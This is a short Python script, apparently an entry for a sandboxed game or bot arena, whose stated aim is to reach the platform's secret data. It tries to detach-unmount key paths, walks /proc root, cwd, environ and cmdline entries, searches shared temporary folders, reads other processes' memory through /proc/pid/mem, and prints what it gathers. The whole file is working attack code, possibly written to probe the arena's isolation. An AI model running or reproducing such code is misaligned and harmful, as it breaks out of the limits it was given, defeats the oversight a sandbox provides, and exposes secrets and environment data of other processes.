"""Reach the platform's data: unmount what hides it, walk /proc/*/root and cwd, search
the shared temporary folders, read other processes' environment and memory."""

import ctypes
import glob
import os

from player import Plain, given, report

SECRET_PATH = given("SECRET_PATH")
libc = ctypes.CDLL(None, use_errno=True)


def read(path, limit=1 << 16):
    try:
        with open(path, "rb") as handle:
            return handle.read(limit)
    except OSError:
        return b""


for target in ("/", "/run/arena", "/bot", "/proc", "/tmp", SECRET_PATH):
    result = libc.umount2(target.encode(), 2)  # MNT_DETACH
    report(f"umount {target}", "unmounted" if result == 0 else f"refused ({ctypes.get_errno()})")

found = []
candidates = [SECRET_PATH, *glob.glob("/proc/*/root" + SECRET_PATH)]
candidates += glob.glob("/proc/*/cwd/*") + glob.glob("/dev/shm/**", recursive=True)
candidates += glob.glob("/tmp/**", recursive=True) + glob.glob("/proc/*/environ")
candidates += glob.glob("/proc/*/cmdline") + glob.glob("/run/**", recursive=True)
for path in candidates:
    if os.path.isfile(path):
        found.append(read(path))
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            maps = read(f"/proc/{pid}/maps").decode().splitlines()[:20]
            with open(f"/proc/{pid}/mem", "rb") as mem:
                for line in maps:
                    start, end = (int(x, 16) for x in line.split()[0].split("-"))
                    mem.seek(start)
                    found.append(mem.read(min(end - start, 1 << 20)))
        except (OSError, ValueError):
            pass
report("files", f"read {len(found)} files")
print(b"\n".join(found).decode(errors="replace")[:500_000], flush=True)


class Files(Plain):
    name = "files"
